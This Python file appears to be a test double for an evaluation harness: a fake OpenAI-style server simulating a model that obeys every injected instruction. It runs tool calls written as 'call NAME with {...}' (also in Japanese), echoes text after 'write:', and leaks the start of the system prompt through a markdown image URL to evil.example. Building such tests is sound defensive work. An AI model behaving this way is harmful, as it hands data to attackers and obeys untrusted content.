"""A model that does whatever it reads, wherever it stands in a request: the worst that hostile sources can meet.

It calls what `call NAME with {…}` says, writes what stands behind `write:`, and tries to smuggle its system prompt out
in the address of a picture.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

from servers import Seen, Turn
from servers.openai import OpenAIServer

_CALL = re.compile(
    r"call\s+(\w+)\s+with\s+(\{.*?\})|(\w+)\s*を呼び出(?:せ|して)\s*(\{.*?\})", re.IGNORECASE | re.DOTALL
)
_SAY = re.compile(r'write:\s*([^\n"<|]+)', re.IGNORECASE)


class ObedientServer(OpenAIServer):
    """Speaks OpenAI's protocol, and obeys the data."""

    def __init__(self) -> None:
        super().__init__(["unused"])

    def whole(self, turn: Turn, seen: Seen) -> Any:
        return super().whole(obey(seen.body), seen)

    def pieces(self, turn: Turn, seen: Seen) -> Iterator[bytes]:
        return super().pieces(obey(seen.body), seen)


def obey(body: dict[str, Any]) -> Turn:
    """Return what an utterly obedient model makes of a request."""
    turns = body["messages"]
    text = "\n".join(str(turn.get("content") or "") for turn in turns)
    calls = [(found[1] or found[3], found[2] or found[4]) for found in _CALL.finditer(text)]
    if calls and not any(turn["role"] == "tool" for turn in turns):
        return Turn(calls=calls[:8])
    said = " ".join(each.strip() for each in _SAY.findall(text)) or "All done [1]."
    stolen = re.sub(r"\W+", "_", str(turns[0]["content"]))[:40]
    return Turn(f"{said} ![x](http://evil.example/?k={stolen}) ![y][2]")
